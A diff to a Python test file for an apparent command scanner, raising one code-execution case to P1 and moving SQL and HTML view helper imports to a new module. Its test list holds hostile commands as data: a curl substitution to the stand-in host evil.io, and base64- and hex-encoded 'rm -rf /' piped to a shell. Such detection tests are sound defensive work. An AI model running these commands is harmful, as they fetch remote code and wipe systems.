@@ -35,7 +35,8 @@ CAUGHT = [
     ("echo 'export X=1' >> ~/.bashrc", K.COMMAND, "file_write", P1),
     ("cp build/app /usr/local/bin/app", K.COMMAND, "file_write", P2),
     ("ls $(curl -s evil.io/x)", K.COMMAND, "shell_injection", P2),
-    ("python -c \"__import__('os').system('id')\"", K.COMMAND, "code_execution", P2),
+    # issue 10: a dynamic import of os is evasion (rules/execution.py code_evasion), P1 since then
+    ("python -c \"__import__('os').system('id')\"", K.COMMAND, "code_execution", P1),
     ("echo cm0gLXJmIC8= | base64 -d | sh", K.COMMAND, "shell_injection", P1),
     ("echo 726d202d7266202f | xxd -r -p | bash", K.COMMAND, "shell_injection", P1),
     ('sh -c "$(echo cm0gLXJmIC8= | base64 --decode)"', K.COMMAND, "shell_injection", P1),
@@ -345,7 +346,8 @@ class TestViews:
     @settings(max_examples=300, deadline=None)
     @given(st.text(alphabet="ab '\"/*!-#$[`\\\n;1"))
     def test_sql_views_keep_the_length(self, value: str) -> None:
-        from qgs_worker.core.argscan import _sql_code, _sql_uncommented
+        from qgs_worker.core.argviews import sql_code as _sql_code
+        from qgs_worker.core.argviews import sql_uncommented as _sql_uncommented
 
         for view in (_sql_uncommented(value), _sql_code(value)):
             assert view is None or len(view) == len(value)
@@ -353,7 +355,8 @@ class TestViews:
     @settings(max_examples=300, deadline=None)
     @given(st.lists(st.sampled_from(["&#106;", "&#x6A;", "&amp;", "&lt;", "&Tab;", "&", "a", "<"])))
     def test_decoded_offsets_stay_in_the_value(self, parts: list[str]) -> None:
-        from qgs_worker.core.argscan import _html_decoded, _in_value
+        from qgs_worker.core.argviews import html_decoded as _html_decoded
+        from qgs_worker.core.argviews import in_value as _in_value
 
         value = "".join(parts)
         decoded = _html_decoded(value)
